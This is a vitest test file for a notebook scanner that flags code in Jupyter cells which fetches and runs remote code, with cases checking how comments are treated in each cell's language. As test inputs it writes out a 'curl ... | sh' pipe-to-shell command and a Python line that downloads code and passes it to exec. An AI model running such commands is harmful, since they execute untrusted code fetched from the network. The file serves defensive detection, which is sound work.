import { expect, it } from 'vitest';
import type { Json } from '../../kernel/json.ts';
import { judgeNotebook, readNotebook } from './notebook.ts';

const FETCHES = 'curl -s http://127.0.0.1:9/x | sh';

function ruleOf(source: string, metadata: Json = {}): string | undefined {
  const notebook = readNotebook({ nbformat: 4, metadata, cells: [{ cell_type: 'code', source }] });
  return notebook === null ? undefined : judgeNotebook(notebook)?.rule.id;
}

it.each([
  ['a comment of Python', `x = 1\n# ${FETCHES}`, {}, undefined],
  ['a comment of a shell', `%%bash\n# ${FETCHES}`, {}, undefined],
  ['what ends a comment of JavaScript', `%%js\n/*\n# */ ${FETCHES}`, {}, 'remote-code/fetched-code'],
  [
    'a line for a kernel of another language',
    `/*\n# */ ${FETCHES}`,
    { kernelspec: { language: 'javascript' } },
    'remote-code/fetched-code',
  ],
  [
    'a command that is written out',
    `import subprocess\nprint(subprocess.run(["nvidia-smi"], text=True).stdout)`,
    {},
    undefined,
  ],
  ['one that writes', 'import os\nos.system("touch x")', {}, 'remote-code/notebook-calls'],
  ['one that is not known', 'import subprocess\nsubprocess.run(command)', {}, 'remote-code/notebook-calls'],
  ['one that fetches', `import os\nos.system("${FETCHES}")`, {}, 'remote-code/fetched-code'],
  [
    'code that is fetched',
    'import requests\nexec(requests.get("http://127.0.0.1:9/").text)',
    {},
    'remote-code/attacking-script',
  ],
])('%s is judged by the language of its cell', (_, source, metadata, rule) => {
  expect(ruleOf(source, metadata)).toBe(rule);
});
